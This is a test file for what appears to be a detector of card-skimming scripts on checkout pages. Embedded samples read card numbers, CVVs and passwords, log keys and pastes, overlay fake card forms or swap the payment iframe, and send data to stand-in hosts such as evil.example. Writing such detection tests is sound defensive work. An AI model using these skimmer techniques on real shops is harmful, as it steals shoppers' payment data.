import { deep } from '@tillwatch/testbed/depth'
import { expect, it } from 'vitest'
import { all, run, shareBrowser, withCard } from './run.ts'

shareBrowser()

it('tells which fields are read and how, which listeners wait for it, and that the card and its code went to another host', async () => {
  const told = await run(
    withCard(`const code = document.getElementById('ccsave_cc_cid').value;
    fetch('https://evil.example/c', { method: 'POST', body: btoa(JSON.stringify({ card, code })) })`),
  )
  expect(told).toMatchObject({ version: 1, outcome: 'ran', why: null })
  expect(told.gates).toContain('tools:closed')
  expect(told.behaviours).toContainEqual({ kind: 'reads-field', field: 'card', how: 'value', gate: null })
  expect(told.behaviours).toContainEqual({ kind: 'sends', what: 'card', to: 'evil.example', way: 'fetch', encoding: 'base64', gate: null })
  expect(told.behaviours).toContainEqual({ kind: 'contacts', to: 'evil.example', way: 'fetch', gate: null })
  expect(told.behaviours).toContainEqual({ kind: 'listens', event: 'change', on: 'card', gate: null })
})

it('tells that keys are heard, pastes taken, forms read whole, and that what was typed is name, password, code and expiry, too', async () => {
  const told = await run(`
    document.addEventListener('keydown', (event) => event.key)
    document.addEventListener('paste', (event) => event.clipboardData.getData('text'))
    document.addEventListener('submit', (event) => {
      const all = [...document.querySelectorAll('input')].map((one) => one.name + '=' + one.value).join('&')
      new FormData(event.target)
      navigator.sendBeacon('https://evil.example/all', all)
    }, true)`)
  const how = new Set(all(told, 'reads-field').map((one) => `${one.field} ${one.how}`))
  expect([...how]).toEqual(expect.arrayContaining(['card key', 'card paste', 'card FormData', 'password value']))
  expect(new Set(all(told, 'sends').map(({ what }) => what))).toEqual(new Set(['card', 'cvv', 'expiry', 'name', 'password', 'other']))
  expect(all(told, 'listens').map(({ event, on }) => `${event} ${on}`)).toEqual(
    expect.arrayContaining(['keydown document', 'paste document', 'submit document']),
  )
})

it('tells of replaced functions, of texts run as code, and of the card kept in cookies and storage', async () => {
  const told = await run(`
    const fetchBefore = window.fetch
    window.fetch = (...given) => fetchBefore(...given)
    eval('window.one = 1')
    new Function('window.two = 2')()
    ${withCard("document.cookie = 'c=' + card; localStorage.a = btoa(card); sessionStorage.setItem('b', card)")}`)
  expect(all(told, 'overrides').map(({ name }) => name)).toEqual(['self.fetch'])
  expect(all(told, 'runs-text').map(({ length }) => length)).toContain('window.one = 1'.length)
  expect(all(told, 'runs-text').length).toBe(2)
  expect(new Set(all(told, 'stores').map(({ what, where }) => `${what} ${where}`))).toEqual(
    new Set(['card cookie', 'card local', 'card session']),
  )
})

it('types into a false form over the hosted fields, and tells of the form, of what it covers, and of what it sends', async () => {
  const told = await run(`
    const form = document.createElement('div')
    form.style.cssText = 'position:absolute;background:white;z-index:9'
    form.innerHTML = '<p>Card</p><input name="cardnumber" style="width:400px;height:100px"><input name="cvv" style="height:100px">'
    document.querySelector('#card-element').prepend(form)
    form.addEventListener('change', (event) => { new Image().src = 'https://evil.example/p.gif?v=' + event.target.value })`)
  expect(all(told, 'makes-form')).toEqual([{ kind: 'makes-form', fields: ['card', 'cvv'], gate: null }])
  expect(all(told, 'overlays').map(({ target }) => target)).toContain('provider-frame')
  expect(all(told, 'sends')).toContainEqual({
    kind: 'sends',
    what: 'card',
    to: 'evil.example',
    way: 'image',
    encoding: 'plain',
    gate: null,
  })
})

it('tells that the frame of the provider was swapped for another', async () => {
  const told = await run(`
    const frame = document.createElement('iframe')
    frame.src = 'https://fake-fields.example/card'
    document.querySelector('#card-frame').replaceWith(frame)`)
  expect(all(told, 'makes-frame')).toEqual([{ kind: 'makes-frame', to: 'fake-fields.example', overProvider: true, gate: null }])
  expect(all(told, 'overlays').map(({ target }) => target)).toEqual(['provider-frame gone'])
  expect(all(told, 'loads')).toEqual([{ kind: 'loads', to: 'fake-fields.example', way: 'frame', gate: null }])
})

it('tells which scripts, modules, workers and frames are loaded, and from where', async () => {
  const told = await run(`
    const script = document.createElement('script')
    script.src = 'https://more.example/b.js'
    document.head.append(script)
    import('https://modules.example/c.js')
    const text = URL.createObjectURL(new Blob(["importScripts('https://worker.example/d.js'); fetch('https://inside.example/')"]))
    new Worker(text)`)
  expect(new Set(all(told, 'loads').map(({ to, way }) => `${way} ${to}`))).toEqual(
    new Set(['script more.example', 'import modules.example', 'script worker.example']),
  )
  expect(all(told, 'contacts').map(({ to }) => to)).toContain('inside.example')
})

it('tells nothing of a script that only formats the card and counts visits, but that it reads the field and whom it asks', async () => {
  const told = await run(`
    document.querySelectorAll('input').forEach((one) => one.addEventListener('input', () => one.value.replace(/\\s/g, '')))
    fetch('https://stats.example/hit?page=' + encodeURIComponent(location.pathname))`)
  expect(told.outcome).toBe('ran')
  expect(new Set(told.behaviours.map(({ kind }) => kind))).toEqual(new Set(['reads-field', 'listens', 'contacts']))
})

it.runIf(deep)('offers the libraries that shops have to a script that counts on them', async () => {
  const told = await run(`jQuery(function ($) { $(document).on('click', '.btn-checkout', function () {
    $.ajax({ url: '//evil.example/gate.php', type: 'POST', data: $('#co-payment-form').serialize() }) }) })`)
  expect(all(told, 'sends')).toContainEqual({ kind: 'sends', what: 'card', to: 'evil.example', way: 'xhr', encoding: 'plain', gate: null })
})

it('calls a host that is the shop itself “own”, and leaves out what the shop sends of its own accord', async () => {
  const told = await run(withCard("fetch('/media/catalog/1.jpg', { method: 'POST', body: [...card].reverse().join('') })"))
  expect(all(told, 'sends')).toEqual([{ kind: 'sends', what: 'card', to: 'own', way: 'fetch', encoding: 'reversed', gate: null }])
})
